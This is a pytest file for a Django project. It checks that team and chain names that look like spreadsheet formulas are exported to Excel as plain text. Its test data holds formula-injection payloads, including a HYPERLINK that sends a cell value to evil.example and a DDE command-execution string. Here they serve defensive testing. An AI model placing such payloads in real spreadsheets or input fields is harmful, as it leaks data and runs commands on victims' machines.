"""What people typed reaches an exported workbook as text: a group or chain named like a formula is
written as a text cell (never `<f>`), shown unchanged, and the numbers stay numbers."""

from decimal import Decimal
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.spreadsheets import FORMULA_TRIGGERS, safe_cell, safe_row
from projects.models import IndustryChain, Project
from teams.models import Team

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]  # fmt: skip


def _read_back(workbook: Workbook):
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue(), load_workbook(BytesIO(buffer.getvalue()))


def test_a_text_that_looks_like_a_formula_is_written_as_text():
    workbook = Workbook()
    sheet = workbook.active
    for text in FORMULAS:
        sheet.append(safe_row(sheet, [text, 3, Decimal("2.5"), None]))
    raw, book = _read_back(workbook)
    for row, text in zip(book.active.iter_rows(max_col=4), FORMULAS, strict=True):
        name, count, amount, empty = row
        assert (name.data_type, name.value) == ("s", text.replace("\r", "\n"))  # XML reads CR as LF
        assert name.quotePrefix, f"{text!r} has no quote prefix"
        assert (count.value, amount.value, empty.value) == (3, 2.5, None) and count.data_type == "n"
    assert b"<f>" not in ZipFile(BytesIO(raw)).read("xl/worksheets/sheet1.xml")


def test_plain_text_keeps_no_prefix_and_control_characters_do_not_break_the_file():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([safe_cell(sheet, "招商一组"), safe_cell(sheet, "a\x01b\x00c")])
    _raw, book = _read_back(workbook)
    plain, control = book.active[1]
    assert (plain.value, plain.quotePrefix) == ("招商一组", False)
    assert control.value == "abc"


def test_every_trigger_is_neutralised():
    workbook = Workbook()
    sheet = workbook.active
    for trigger in FORMULA_TRIGGERS:
        cell = safe_cell(sheet, f"{trigger}1")
        assert cell.data_type == "s" and cell.quotePrefix


def test_the_dashboard_export_writes_group_and_chain_names_as_text(client, director_member):
    from tests.factories import make_member
    from tests.projects.builders import make_project

    leader = make_member("team_leader")
    Team.objects.filter(pk=leader.team_id).update(name='=HYPERLINK("http://evil.example","x")')
    chain = IndustryChain.objects.create(name="=1+1", position=99)
    project = make_project(leader)
    Project.objects.filter(pk=project.pk).update(chain=chain)
    client.force_login(director_member.user)
    response = client.get(reverse("dashboards:dashboard_export"))
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert not formulas
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert "=1+1" in texts and '=HYPERLINK("http://evil.example","x")' in texts
    with ZipFile(BytesIO(response.content)) as package:
        assert not any(b"<f>" in package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/"))
